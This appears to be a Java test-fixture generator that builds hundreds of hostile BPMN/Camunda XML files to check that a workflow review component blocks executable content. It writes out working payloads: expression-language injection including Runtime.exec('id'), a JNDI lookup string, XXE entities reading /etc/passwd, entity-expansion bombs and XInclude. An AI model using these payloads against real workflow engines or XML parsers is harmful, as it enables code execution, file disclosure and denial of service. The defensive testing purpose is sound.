package dev.muamala.review.hostile;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Several hundred hostile files: every attribute and element of the schemas of BPMN and Camunda that can carry code,
 * under every engine's name, and what else can be done to a reader of XML. Generated, so that none is forgotten.
 *
 * <p>Payloads name a canary: a class that counts whenever it is loaded, made or called, and a system property.
 */
public final class HostileFiles {
    private static final String CAMUNDA = "http://camunda.org/schema/1.0/bpmn";
    private static final Map<String, String> ENGINES = Map.of(
            "camunda", CAMUNDA,
            "activiti", "http://activiti.org/bpmn",
            "flowable", "http://flowable.org/bpmn",
            "operaton", "http://operaton.org/schema/1.0/bpmn",
            "zeebe", "http://camunda.org/schema/zeebe/1.0",
            "drools", "http://www.jboss.org/drools",
            "unheard-of", "http://example.org/extension");

    /** Every attribute that the schemas and parsers of Camunda 7, Activiti and Flowable know in their namespaces. */
    private static final List<String> ATTRIBUTES =
            List.of(("assignee async asyncAfter asyncBefore businessCalendarName businessKey calledElementBinding"
                            + " calledElementTenantId calledElementVersion calledElementVersionTag candidateGroups"
                            + " candidateStarterGroups candidateStarterUsers candidateUsers caseBinding caseRef"
                            + " caseTenantId caseVersion class collection config datePattern decisionRef"
                            + " decisionRefBinding decisionRefTenantId decisionRefVersion decisionRefVersionTag default"
                            + " defaultValue delegateExpression diagramRelationId dueDate elementVariable errorCodeVariable"
                            + " errorMessage errorMessageVariable escalationCodeVariable event exclusive expression"
                            + " extensionId failedJobRetryTimeCycle followUpDate formHandlerClass formKey formRef"
                            + " formRefBinding formRefVersion historyTimeToLive inheritVariables initiator"
                            + " isStartableInTasklist jobPriority key label linkExpr local mapDecisionResult"
                            + " modelerTemplate modelerTemplateVersion operationRef owner parallelInSameTransaction"
                            + " priority readable required resource resultVariable resultVariableName scriptFormat"
                            + " skipExpression source sourceExpression stringValue target taskPriority topic type"
                            + " triggerable variable variableEvents variableMappingClass"
                            + " variableMappingDelegateExpression variableName versionTag writable")
                    .split(" "));

    /** Every element of BPMN's own schema. */
    private static final List<String> BPMN_ELEMENTS = List.of(
            ("activationCondition adHocSubProcess artifact assignment association auditing boundaryEvent businessRuleTask"
                            + " callActivity callChoreography callConversation cancelEventDefinition category"
                            + " categoryValue childLaneSet choreography choreographyTask collaboration"
                            + " compensateEventDefinition completionCondition complexBehaviorDefinition complexGateway"
                            + " condition conditionExpression conditionalEventDefinition conversation"
                            + " conversationAssociation conversationLink correlationKey correlationProperty"
                            + " correlationPropertyBinding correlationPropertyRetrievalExpression"
                            + " correlationSubscription dataAssociation dataInput dataInputAssociation dataObject"
                            + " dataObjectReference dataOutput dataOutputAssociation dataPath dataState dataStore"
                            + " dataStoreReference endEvent endPoint error errorEventDefinition escalation"
                            + " escalationEventDefinition event eventBasedGateway eventDefinition eventDefinitionRef"
                            + " exclusiveGateway expression extension formalExpression from globalBusinessRuleTask"
                            + " globalChoreographyTask globalConversation globalManualTask globalScriptTask globalTask"
                            + " globalUserTask group humanPerformer implicitThrowEvent import inclusiveGateway"
                            + " inputDataItem inputSet interface intermediateCatchEvent intermediateThrowEvent ioBinding"
                            + " ioSpecification itemDefinition lane laneSet linkEventDefinition loopCardinality"
                            + " loopCondition loopDataInputRef loopDataOutputRef manualTask message"
                            + " messageEventDefinition messageFlow messageFlowAssociation messagePath monitoring"
                            + " multiInstanceLoopCharacteristics operation outputDataItem outputSet parallelGateway"
                            + " participant participantAssociation participantMultiplicity partitionElement"
                            + " partnerEntity partnerRole performer potentialOwner process property receiveTask"
                            + " relationship rendering resource resourceAssignmentExpression resourceParameter"
                            + " resourceParameterBinding resourceRole script scriptTask sendTask sequenceFlow"
                            + " serviceTask signal signalEventDefinition standardLoopCharacteristics startEvent"
                            + " subChoreography subConversation subProcess task terminateEventDefinition text"
                            + " textAnnotation timeCycle timeDate timeDuration timerEventDefinition to transaction"
                            + " transformation userTask")
                    .split(" "));

    /** Every element of Camunda's namespace, and of its relatives'. */
    private static final List<String> EXTENSIONS = List.of(
            ("connector connectorId constraint customResource errorEventDefinition eventListener executionListener"
                            + " expression failedJobRetryTimeCycle field formData formField formProperty in"
                            + " inputOutput mapException out outputParameter potentialStarter script string"
                            + " taskListener taskDefinition ioMapping calledDecision loopCharacteristics subscription"
                            + " userTaskForm onEntry-script onExit-script validation")
                    .split(" "));

    private static final List<String> LANGUAGES = List.of(
            ("juel javascript ecmascript js graal.js groovy python jython ruby jruby freemarker velocity xquery feel"
                            + " JUEL application/x-groovy text/javascript beanshell clojure scala kotlin kts mvel"
                            + " http://www.java.com/java http://www.mvel.org/2.0")
                    .split(" "));

    private final String canary;
    private final String sing;
    private final List<HostileFile> files = new ArrayList<>();

    private HostileFiles(String canary) {
        this.canary = canary;
        this.sing = "${''.getClass().forName('" + canary + "').getMethod('sing').invoke(null)}";
    }

    /** @param canary the name of the class that the files try to reach */
    public static List<HostileFile> naming(String canary) {
        HostileFiles all = new HostileFiles(canary);
        all.attributes();
        all.bpmnElements();
        all.extensions();
        all.scripts();
        all.expressions();
        all.timers();
        all.references();
        all.documents();
        all.encodings();
        all.sizes();
        return List.copyOf(all.files);
    }

    /**
     * Files whose attack is text to everyone who reads them rightly: comments, documentation, decoration. The review
     * may let them pass; what it hands on must not do anything either.
     */
    public static List<HostileFile> harmless(String canary) {
        HostileFiles all = new HostileFiles(canary);
        String task = all.service("task", "", "");
        all.add(
                "in the documentation",
                all.process(all.service("task", "", "<b:documentation>" + all.sing + "</b:documentation>"), "task"),
                List.of());
        all.add(
                "in a label",
                all.process(task.replace("name=\"Name\"", "name=\"" + attribute(all.sing) + "\""), "task"),
                List.of());
        all.add("in a comment", all.process(task + "<!-- " + all.sing + " -->", "task"), List.of());
        all.add(
                "in a processing instruction",
                all.process(task + "<?script " + all.sing + "?>", "task")
                        .replace("?>\n<b:def", "?><?xml-stylesheet type=\"text/xsl\" href=\"file:///x.xsl\"?>\n<b:def"),
                List.of());
        all.add(
                "in a note",
                all.process(
                        task + "<b:textAnnotation id=\"note\"><b:text>" + all.sing + "</b:text></b:textAnnotation>",
                        "task"),
                List.of());
        all.add(
                "in the drawing",
                all.process(task, "task")
                        .replace(
                                "</b:definitions>",
                                "<di:BPMNDiagram xmlns:di=\"http://www.omg.org/spec/BPMN/20100524/DI\" id=\"d\"><di:BPMNPlane"
                                        + " bpmnElement=\"trade-licence\"><di:BPMNShape bpmnElement=\"task\" camunda:class=\""
                                        + all.canary + "\"><camunda:script scriptFormat=\"juel\">" + all.sing
                                        + "</camunda:script></di:BPMNShape></di:BPMNPlane></di:BPMNDiagram></b:definitions>"),
                List.of());
        all.add(
                "in decoration",
                all.process(
                        task.replace(
                                "<b:extensionElements>",
                                "<b:extensionElements><s:signavioMetaData xmlns:s=\"http://www.signavio.com\" metaKey=\""
                                        + attribute(all.sing) + "\"/>"),
                        "task"),
                List.of());
        all.add(
                "in a text with markup",
                all.process(
                        all.service(
                                "task",
                                "",
                                "<b:documentation><![CDATA[</b:documentation><b:scriptTask id=\"x\"/>]]></b:documentation>"),
                        "task"),
                List.of());
        return List.copyOf(all.files);
    }

    private void add(String name, String bpmn, List<String> elements) {
        files.add(new HostileFile(name, bpmn.getBytes(StandardCharsets.UTF_8), elements, false));
    }

    private void bulky(String name, String bpmn) {
        files.add(new HostileFile(name, bpmn.getBytes(StandardCharsets.UTF_8), List.of(), true));
    }

    private static String attribute(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;");
    }

    private static final String EXTENSIONS_WITH_LABEL =
            "<b:extensionElements><camunda:properties><camunda:property name=\"label.ar\" value=\"نص\"/>"
                    + "<camunda:property name=\"outcome\" value=\"done\"/></camunda:properties></b:extensionElements>";

    private String document(String root, String attributes, String content) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<b:definitions"
                + " xmlns:b=\"http://www.omg.org/spec/BPMN/20100524/MODEL\" xmlns:camunda=\"" + CAMUNDA
                + "\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" targetNamespace=\"http://x\">" + root
                + "<b:process id=\"trade-licence\" name=\"P\" isExecutable=\"true\" camunda:versionTag=\"1\" "
                + attributes + ">" + EXTENSIONS_WITH_LABEL + content + "</b:process></b:definitions>";
    }

    /** A process of a start, this step and an end. */
    private String process(String step, String id) {
        return document("", "", start() + step + end() + flow("start", id) + flow(id, "end"));
    }

    private String start() {
        return "<b:startEvent id=\"start\" name=\"Name\">" + EXTENSIONS_WITH_LABEL + "</b:startEvent>";
    }

    private String end() {
        return "<b:endEvent id=\"end\" name=\"Name\">" + EXTENSIONS_WITH_LABEL + "</b:endEvent>";
    }

    private static String flow(String from, String to) {
        return "<b:sequenceFlow id=\"" + from + "_" + to + "\" sourceRef=\"" + from + "\" targetRef=\"" + to + "\"/>";
    }

    private String node(String type, String id, String attributes, String content) {
        return "<b:" + type + " id=\"" + id + "\" name=\"Name\" " + attributes + ">"
                + (content.startsWith("<b:documentation")
                        ? content.substring(
                                0, content.indexOf("</b:documentation>", content.lastIndexOf("]]>") + 1) + 18)
                        : "")
                + EXTENSIONS_WITH_LABEL
                + (content.startsWith("<b:documentation") ? "" : content)
                + "</b:" + type + ">";
    }

    private String service(String id, String attributes, String content) {
        return node(
                "serviceTask",
                id,
                "camunda:type=\"external\" camunda:topic=\"mohre.establishment.open\" " + attributes,
                content);
    }

    /** One attribute on everything that a process can hold. */
    private void attributes() {
        for (String attribute : ATTRIBUTES) {
            String value = attribute.matches("class|.*Class") ? canary : attribute(sing);
            ENGINES.forEach((engine, namespace) -> {
                if (!engine.equals("zeebe") && !engine.equals("drools")) {
                    add(engine + ":" + attribute, everywhere("x:" + attribute, value, namespace), CARRIERS);
                }
            });
            if (!attribute.equals("default")) {
                add(attribute + " without a namespace", everywhere(attribute, value, CAMUNDA), List.of());
            }
        }
    }

    private static final List<String> CARRIERS = List.of(
            "trade-licence",
            "start",
            "sub",
            "begin",
            "service",
            "user",
            "rule",
            "receive",
            "call",
            "plain",
            "gate",
            "timer",
            "thrown",
            "late",
            "end",
            "start_sub");

    private String everywhere(String attribute, String value, String namespace) {
        String plain = " xmlns:x=\"" + namespace + "\" " + attribute + "=\"" + value + "\" ";
        String service = plain
                + (namespace.equals(CAMUNDA) && attribute.equals("x:type") ? "" : "camunda:type=\"external\" ")
                + (namespace.equals(CAMUNDA) && attribute.equals("x:topic")
                        ? ""
                        : "camunda:topic=\"mohre.establishment.open\"");
        String inside = node("startEvent", "begin", plain, "")
                + node("serviceTask", "service", service, "")
                + node("userTask", "user", plain + without(attribute, namespace, "candidateGroups", "x"), "")
                + node("businessRuleTask", "rule", plain + without(attribute, namespace, "decisionRef", "x"), "")
                + node("receiveTask", "receive", plain + "messageRef=\"m\"", "")
                + node(
                        "callActivity",
                        "call",
                        plain + "calledElement=\"x\" "
                                + without(attribute, namespace, "calledElementBinding", "versionTag")
                                + without(attribute, namespace, "calledElementVersionTag", "1"),
                        "<b:multiInstanceLoopCharacteristics" + plain + "><b:loopCardinality>2</b:loopCardinality>"
                                + "</b:multiInstanceLoopCharacteristics>")
                + node("task", "plain", plain, "")
                + node("exclusiveGateway", "gate", plain, "")
                + node(
                        "intermediateCatchEvent",
                        "timer",
                        plain,
                        "<b:timerEventDefinition" + plain + "><b:timeDuration>PT1S</b:timeDuration>"
                                + "</b:timerEventDefinition>")
                + node("intermediateThrowEvent", "thrown", plain, "")
                + node("endEvent", "done", "", "")
                + IntStream.range(0, CHAIN.size() - 1)
                        .mapToObj(i -> flow(CHAIN.get(i), CHAIN.get(i + 1)))
                        .collect(Collectors.joining());
        String body = node("startEvent", "start", plain, "")
                + node("subProcess", "sub", plain, inside)
                + node(
                        "boundaryEvent",
                        "late",
                        plain + "attachedToRef=\"sub\"",
                        "<b:errorEventDefinition" + plain + " errorRef=\"e\"/>")
                + node("endEvent", "end", plain, "")
                + "<b:sequenceFlow id=\"start_sub\" sourceRef=\"start\" targetRef=\"sub\"" + plain + "/>"
                + flow("sub", "end")
                + flow("late", "end");
        String attributes = attribute.equals("x:versionTag") && namespace.equals(CAMUNDA) ? "" : plain;
        String document = document(
                "<b:message id=\"m\" name=\"m\"" + plain + "/><b:error id=\"e\" errorCode=\"e\"" + plain + "/>",
                attributes,
                body);
        return attributes.isEmpty()
                ? document.replace("camunda:versionTag=\"1\"", "camunda:versionTag=\"" + value + "\"")
                : document;
    }

    private static final List<String> CHAIN =
            List.of("begin", "service", "user", "rule", "receive", "call", "plain", "gate", "timer", "thrown", "done");

    private static String without(String attribute, String namespace, String name, String value) {
        return namespace.equals(CAMUNDA) && attribute.equals("x:" + name)
                ? ""
                : "camunda:" + name + "=\"" + value + "\" ";
    }

    /** One element of BPMN's schema, filled with code, in a process and in a task. */
    private void bpmnElements() {
        for (String element : BPMN_ELEMENTS) {
            String code = "<b:" + element
                    + " id=\"hidden\" name=\"n\" scriptFormat=\"juel\" language=\"juel\" camunda:class=\""
                    + canary + "\" camunda:expression=\"" + attribute(sing) + "\">" + sing
                    + "<b:script>" + sing + "</b:script></b:" + element + ">";
            add("<" + element + "> in a process", process(service("task", "", "") + code, "task"), List.of());
            add("<" + element + "> in a task", process(service("task", "", code), "task"), List.of());
        }
    }

    /** One element of an engine's namespace on everything. */
    private void extensions() {
        ENGINES.forEach((engine, namespace) -> {
            for (String element : EXTENSIONS) {
                String code = "<x:" + element + " xmlns:x=\"" + namespace + "\" event=\"start\" class=\"" + canary
                        + "\" expression=\"" + attribute(sing) + "\" delegateExpression=\"" + attribute(sing)
                        + "\" name=\"n\" businessKey=\"" + attribute(sing) + "\" sourceExpression=\"" + attribute(sing)
                        + "\" target=\"t\" scriptFormat=\"juel\"><x:script scriptFormat=\"juel\">" + sing
                        + "</x:script><x:expression>" + sing + "</x:expression></x:" + element + ">";
                add(
                        "<" + engine + ":" + element + "> everywhere",
                        everywhere("xsi:nil", "true", CAMUNDA)
                                .replace("<b:extensionElements>", "<b:extensionElements>" + code),
                        CARRIERS.subList(0, CARRIERS.size() - 1));
            }
        });
    }

    private void scripts() {
        for (String language : LANGUAGES) {
            String script = language.toLowerCase(java.util.Locale.ROOT).contains("juel")
                    ? sing
                    : "java.lang.System.setProperty('muamala.canary', '1')";
            add(
                    "a script task in " + language,
                    process(
                            node(
                                    "scriptTask",
                                    "task",
                                    "scriptFormat=\"" + language + "\"",
                                    "<b:script>" + script + "</b:script>"),
                            "task"),
                    List.of("task"));
            add(
                    "an input in " + language,
                    process(
                            service("task", "", "")
                                    .replace(
                                            "<camunda:properties>",
                                            "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
                                                    + " scriptFormat=\"" + language + "\">" + script
                                                    + "</camunda:script></camunda:inputParameter></camunda:inputOutput>"
                                                    + "<camunda:properties>"),
                            "task"),
                    List.of("task"));
            add(
                    "a condition in " + language,
                    process(service("task", "", ""), "task")
                            .replace(
                                    "targetRef=\"end\"/>",
                                    "targetRef=\"end\"><b:conditionExpression xsi:type=\"b:tFormalExpression\" language=\""
                                            + language + "\">" + script + "</b:conditionExpression></b:sequenceFlow>"),
                    List.of("task_end"));
        }
        for (String resource :
                List.of("deployment://x.groovy", "classpath://x.js", "file:///etc/passwd", "http://x/y.js")) {
            add(
                    "a script from " + resource,
                    process(
                            node(
                                    "scriptTask",
                                    "task",
                                    "scriptFormat=\"groovy\" camunda:resource=\"" + resource + "\"",
                                    ""),
                            "task"),
                    List.of("task"));
            add(
                    "a condition from " + resource,
                    process(service("task", "", ""), "task")
                            .replace(
                                    "targetRef=\"end\"/>",
                                    "targetRef=\"end\"><b:conditionExpression language=\"groovy\" camunda:resource=\""
                                            + resource + "\"/></b:sequenceFlow>"),
                    List.of("task_end"));
        }
    }

    private void expressions() {
        List<String> attacks = List.of(
                sing,
                sing.replace("${", "#{"),
                "a" + sing,
                sing + sing,
                "${true}" + sing,
                "${execution.setVariable('a', 1)}",
                "${execution['class']()}",
                "${form['class'].forName('" + canary + "')}",
                "${form.getClass().getClassLoader()}",
                "${now()}",
                "${dateTime().plusDays(1)}",
                "${fn:length(form)}",
                "${S('<a/>').prop('a')}",
                "${XML(form)}",
                "${T(java.lang.Runtime).getRuntime().exec('id')}",
                "${@bean.sing()}",
                "${a = 1}",
                "${a -> a.sing()}",
                "${[1,2].stream().map(x->x).toList()}",
                "${{'a':1}}",
                "${form += 'x'}",
                "${1; sing()}",
                "${!(1 == 1 ? form.sing() : false)}",
                "${authenticatedUserId == currentUser()}",
                "${'${'}" + sing,
                "${" + "(".repeat(5000) + "1" + ")".repeat(5000) + "}",
                "${" + "(".repeat(1900) + "1" + ")".repeat(1900) + "}",
                "${" + "!".repeat(3900) + "true}",
                "${" + "!".repeat(100_000) + "true}",
                "${'" + "x".repeat(5000) + "'}",
                "${a" + ".a".repeat(5000) + "}",
                "${a\u0000}".replace("\u0000", "\u200b("),
                "%{sing()}",
                "=sing()",
                "{{sing}}",
                "<%= sing() %>",
                "${jndi:ldap://x/y}");
        for (String attack : attacks) {
            String text = attack.replace("&", "&amp;").replace("<", "&lt;");
            String shown = attack.length() > 40 ? attack.substring(0, 40) : attack;
            add(
                    "a condition " + shown,
                    process(service("task", "", ""), "task")
                            .replace(
                                    "targetRef=\"end\"/>",
                                    "targetRef=\"end\"><b:conditionExpression>" + text
                                            + "</b:conditionExpression></b:sequenceFlow>"),
                    List.of("task_end"));
            add(
                    "a cardinality " + shown,
                    process(
                            service(
                                    "task",
                                    "",
                                    "<b:multiInstanceLoopCharacteristics><b:loopCardinality>" + text
                                            + "</b:loopCardinality></b:multiInstanceLoopCharacteristics>"),
                            "task"),
                    List.of("task"));
            add(
                    "a completion condition " + shown,
                    process(
                            service(
                                    "task",
                                    "",
                                    "<b:multiInstanceLoopCharacteristics><b:loopCardinality>2</b:loopCardinality>"
                                            + "<b:completionCondition>" + text
                                            + "</b:completionCondition></b:multiInstanceLoopCharacteristics>"),
                            "task"),
                    List.of("task"));
            add(
                    "a collection " + shown,
                    process(
                            service(
                                    "task",
                                    "",
                                    "<b:multiInstanceLoopCharacteristics camunda:collection=\"" + attribute(attack)
                                            + "\" camunda:elementVariable=\"x\"/>"),
                            "task"),
                    List.of("task"));
            if (attack.contains("${") || attack.contains("#{")) {
                add(
                        "an input " + shown,
                        process(
                                service("task", "", "")
                                        .replace(
                                                "<camunda:properties>",
                                                "<camunda:inputOutput><camunda:inputParameter name=\"x\">" + text
                                                        + "</camunda:inputParameter></camunda:inputOutput>"
                                                        + "<camunda:properties>"),
                                "task"),
                        List.of("task"));
                add(
                        "in a list in a map " + shown,
                        process(
                                service("task", "", "")
                                        .replace(
                                                "<camunda:properties>",
                                                "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:map>"
                                                        + "<camunda:entry key=\"k\"><camunda:list><camunda:value>"
                                                        + text
                                                        + "</camunda:value></camunda:list></camunda:entry></camunda:map>"
                                                        + "</camunda:inputParameter></camunda:inputOutput>"
                                                        + "<camunda:properties>"),
                                "task"),
                        List.of("task"));
            }
        }
    }

    private void timers() {
        for (String literal : List.of(
                sing,
                "${timer}",
                "0 0 0 * * ?",
                "* * * * * *",
                "R/PT0S",
                "R/PT-1S",
                "R2147483648/PT1S",
                "R-1/PT1H",
                "R/PT1S",
                "R99999/P0D",
                "P-1D",
                "P999999999Y",
                "PT9223372036854775807S",
                "PT9223372036854775808S",
                "+999999999-12-31T23:59:59Z",
                "-999999999-01-01T00:00:00Z",
                "2026-02-30T00:00:00Z",
                "now",
                "",
                "P1D; P2D")) {
            String text = literal.replace("<", "&lt;");
            for (String kind : List.of("timeDate", "timeDuration", "timeCycle")) {
                String definition = "<b:timerEventDefinition><b:" + kind + ">" + text + "</b:" + kind
                        + "></b:timerEventDefinition>";
                add(
                        kind + " " + literal,
                        process(node("intermediateCatchEvent", "wait", "", definition), "wait"),
                        List.of("wait"));
            }
            add(
                    "a process begun at " + literal,
                    process(service("task", "", ""), "task")
                            .replace(
                                    "</b:startEvent>",
                                    "<b:timerEventDefinition><b:timeCycle>" + text
                                            + "</b:timeCycle></b:timerEventDefinition></b:startEvent>"),
                    List.of("start"));
        }
    }

    /** Names that an engine would resolve, load or evaluate. */
    private void references() {
        String code = attribute(sing);
        Map<String, String> steps = Map.ofEntries(
                Map.entry("a topic", "serviceTask|camunda:type=\"external\" camunda:topic=\"" + code + "\""),
                Map.entry("a mail", "serviceTask|camunda:type=\"mail\""),
                Map.entry("a shell", "serviceTask|camunda:type=\"shell\""),
                Map.entry("a web service", "serviceTask|implementation=\"##WebService\" operationRef=\"x\""),
                Map.entry("a Java class", "serviceTask|implementation=\"" + canary + "\""),
                Map.entry("a group", "userTask|camunda:candidateGroups=\"" + code + "\""),
                Map.entry("a form key", "userTask|camunda:candidateGroups=\"x\" camunda:formKey=\"" + code + "\""),
                Map.entry("a decision", "businessRuleTask|camunda:decisionRef=\"" + code + "\""),
                Map.entry(
                        "a result variable",
                        "businessRuleTask|camunda:decisionRef=\"x\" camunda:resultVariable=\"" + code + "\""),
                Map.entry(
                        "a called workflow",
                        "callActivity|camunda:calledElementBinding=\"versionTag\" camunda:calledElementVersionTag=\"1\""
                                + " calledElement=\"" + code + "\""),
                Map.entry("a called newest workflow", "callActivity|calledElement=\"x\""),
                Map.entry("a case", "callActivity|camunda:caseRef=\"x\""));
        steps.forEach((name, step) -> {
            String[] parts = step.split("\\|", 2);
            add(name, process(node(parts[0], "task", parts[1], ""), "task"), List.of("task"));
        });
        add(
                "a message name",
                document(
                        "<b:message id=\"m\" name=\"" + code + "\"/>",
                        "",
                        start()
                                + node("receiveTask", "task", "messageRef=\"m\"", "")
                                + end()
                                + flow("start", "task")
                                + flow("task", "end")),
                List.of());
        add(
                "an extension property",
                process(
                        service("task", "", "")
                                .replace(
                                        "<camunda:properties>",
                                        "<camunda:properties><camunda:property name=\"p\" value=\"" + code + "\"/>"),
                        "task"),
                List.of("task"));
        add("an id", process(service("task", "", "").replace("task", "a${b}"), "a${b}"), List.of());
        add("an id like a step key", process(service("a#1/b[0]", "", ""), "a#1/b[0]"), List.of());
        add(
                "mappings of a call",
                process(
                        node(
                                        "callActivity",
                                        "task",
                                        "calledElement=\"x\" camunda:calledElementBinding=\"versionTag\""
                                                + " camunda:calledElementVersionTag=\"1\"",
                                        "")
                                .replace(
                                        "<camunda:properties>",
                                        "<camunda:in businessKey=\"#{execution.processBusinessKey}\"/><camunda:in"
                                                + " sourceExpression=\"" + code + "\" target=\"x\"/>"
                                                + "<camunda:properties>"),
                        "task"),
                List.of("task"));
    }

    private void documents() {
        String good = process(service("task", "", ""), "task");
        Map<String, String> types = Map.of(
                "an external entity", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
                "an entity over HTTP", "<!DOCTYPE x [<!ENTITY a SYSTEM \"http://127.0.0.1:1/x\">]>",
                "a parameter entity",
                        "<!DOCTYPE x [<!ENTITY % a SYSTEM \"http://127.0.0.1:1/x\"> %a; <!ENTITY a \"b\">]>",
                "an external subset", "<!DOCTYPE x SYSTEM \"http://127.0.0.1:1/x.dtd\">",
                "a public subset", "<!DOCTYPE x PUBLIC \"-//X\" \"http://127.0.0.1:1/x.dtd\">",
                "a bomb", bomb(),
                "a quadratic bomb", "<!DOCTYPE x [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>",
                "a default attribute",
                        "<!DOCTYPE x [<!ATTLIST b:serviceTask camunda:class CDATA \"" + canary
                                + "\"><!ENTITY a \"b\">]>",
                "an unparsed entity",
                        "<!DOCTYPE x [<!NOTATION n SYSTEM \"x\"><!ENTITY u SYSTEM \"x\" NDATA n><!ENTITY a \"b\">]>");
        types.forEach((name, type) -> {
            add(name, good.replace("?>\n", "?>\n" + type + "\n").replace("name=\"P\"", "name=\"&a;\""), List.of());
            add(
                    name + " in the text",
                    good.replace("?>\n", "?>\n" + type + "\n")
                            .replace(
                                    "<b:startEvent",
                                    "<b:documentation>" + "&a;".repeat(name.contains("quadratic") ? 10_000 : 1)
                                            + "</b:documentation><b:startEvent"),
                    List.of());
        });
        add("an entity of nobody's", good.replace("name=\"P\"", "name=\"&nobody;\""), List.of());
        add(
                "an inclusion",
                good.replace(
                        "<b:startEvent",
                        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\""
                                + " parse=\"text\"/><b:startEvent"),
                List.of());
        add(
                "a stylesheet",
                "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>",
                List.of());
        add(
                "another prefix for code",
                good.replace("camunda:type=", "xmlns:c=\"" + CAMUNDA + "\" c:class=\"" + canary + "\" camunda:type="),
                List.of("task"));
        add(
                "BPMN under a false name",
                good.replace(
                        "http://www.omg.org/spec/BPMN/20100524/MODEL", "http://www.omg.org/spec/BPMN/20100524/model"),
                List.of());
        add(
                "a prefix that changes its meaning",
                good.replace(
                        "<b:startEvent",
                        "<b:task xmlns:b=\"http://activiti.org/bpmn\" id=\"t\" b:class=\"" + canary
                                + "\"/><b:startEvent"),
                List.of());
        add(
                "an attribute twice",
                good.replace("camunda:type=", "camunda:class=\"x\" camunda:class=\"y\" camunda:type="),
                List.of());
        add("a prefix of nobody's", good.replace("camunda:type=", "nobody:class=\"x\" camunda:type="), List.of());
        add("two roots", good + "<b:definitions/>", List.of());
        add("text behind the root", good + sing, List.of());
        add("cut off", good.substring(0, good.length() / 2), List.of());
        add("nothing", "", List.of());
        add("blanks", " \n\t ", List.of());
        add("a declaration alone", "<?xml version=\"1.0\"?>", List.of());
        add("JSON", "{\"definitions\": []}", List.of());
        add("a form of Camunda 8", "{\"components\": [], \"type\": \"default\"}", List.of());
        add("HTML", "<!DOCTYPE html><html><script>sing()</script></html>", List.of());
        add("an unclosed CDATA", good.replace("<b:startEvent", "<![CDATA[ <b:startEvent"), List.of());
        add("XML 1.1", good.replace("version=\"1.0\"", "version=\"1.1\""), List.of());
        add("a control character", good.replace("name=\"P\"", "name=\"&#1;\""), List.of());
        add("a null character", good.replace("name=\"P\"", "name=\"\u0000\""), List.of());
        add("a surrogate", good.replace("name=\"P\"", "name=\"&#xD800;\""), List.of());
        add("a character beyond all", good.replace("name=\"P\"", "name=\"&#x110000;\""), List.of());
        add("a number that overflows", good.replace("name=\"P\"", "name=\"&#99999999999999999999;\""), List.of());
        add(
                "two processes",
                good.replace("</b:definitions>", "<b:process id=\"other\" isExecutable=\"true\"/></b:definitions>"),
                List.of());
        add(
                "an imported file",
                good.replace(
                        "<b:process",
                        "<b:import importType=\"http://schemas.xmlsoap.org/wsdl/\" location=\"http://127.0.0.1:1/x.wsdl\" namespace=\"x\"/><b:process"),
                List.of());
        add(
                "an event sub-process in a loop",
                process(
                        node(
                                "subProcess",
                                "task",
                                "triggeredByEvent=\"true\"",
                                "<b:multiInstanceLoopCharacteristics><b:loopCardinality>9</b:loopCardinality></b:multiInstanceLoopCharacteristics>"
                                        + start().replace("start", "s")),
                        "task"),
                List.of());
    }

    private static String bomb() {
        return "<!DOCTYPE x [<!ENTITY a0 \"aaaaaaaaaa\">"
                + IntStream.range(1, 10)
                        .mapToObj(i -> "<!ENTITY a" + i + " \"" + ("&a" + (i - 1) + ";").repeat(10) + "\">")
                        .collect(Collectors.joining())
                + "<!ENTITY a \"&a9;\">]>";
    }

    private void encodings() {
        String good = process(service("task", "", ""), "task");
        for (String name : List.of(
                "UTF-16",
                "UTF-16LE",
                "UTF-16BE",
                "UTF-32",
                "ISO-8859-1",
                "windows-1256",
                "IBM037",
                "IBM500",
                "ISO-2022-JP",
                "Shift_JIS",
                "GB18030",
                "x-UTF-16LE-BOM")) {
            if (Charset.isSupported(name)) {
                files.add(new HostileFile(
                        "written in " + name,
                        good.replace("UTF-8", name).getBytes(Charset.forName(name)),
                        List.of(),
                        false));
            }
        }
        for (String name : List.of("UTF-7", "UTF-16", "CESU-8", "nonsense", "../../etc/passwd", "IBM037")) {
            add("said to be in " + name, good.replace("UTF-8", name), List.of());
        }
        files.add(new HostileFile("overlong UTF-8", spliced(good, 0xC0, 0xBC), List.of(), false));
        files.add(new HostileFile("half a character", spliced(good, 0xE2, 0x82), List.of(), false));
        files.add(new HostileFile("a surrogate in UTF-8", spliced(good, 0xED, 0xA0, 0x80), List.of(), false));
        files.add(new HostileFile("bytes of nothing", new byte[] {(byte) 0xFF, 0, 1, 2, 3}, List.of(), false));
        files.add(new HostileFile(
                "a compressed file", new byte[] {0x1F, (byte) 0x8B, 8, 0, 0, 0, 0, 0}, List.of(), false));
    }

    private static byte[] spliced(String text, int... bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        String[] halves = text.split("name=\"P\"", 2);
        out.writeBytes((halves[0] + "name=\"").getBytes(StandardCharsets.UTF_8));
        for (int b : bytes) {
            out.write(b);
        }
        out.writeBytes(("\"" + halves[1]).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private void sizes() {
        String loop = "<b:multiInstanceLoopCharacteristics><b:loopCardinality>%s</b:loopCardinality>"
                + "</b:multiInstanceLoopCharacteristics>";
        for (String times :
                List.of("1001", "1000000000", "2147483648", "99999999999999999999", "-1", "1e9", "0x7fffffff")) {
            bulky("done " + times + " times", process(service("task", "", loop.formatted(times)), "task"));
        }
        bulky(
                "loops in loops",
                process(
                        nested("subProcess", 6, loop.formatted("500"), service("task", "", loop.formatted("500"))),
                        "s6"));
        bulky("sub-processes in sub-processes", process(nested("subProcess", 9, "", service("task", "", "")), "s9"));
        bulky("deep", document("", "", "<b:subProcess>".repeat(5000) + "</b:subProcess>".repeat(5000)));
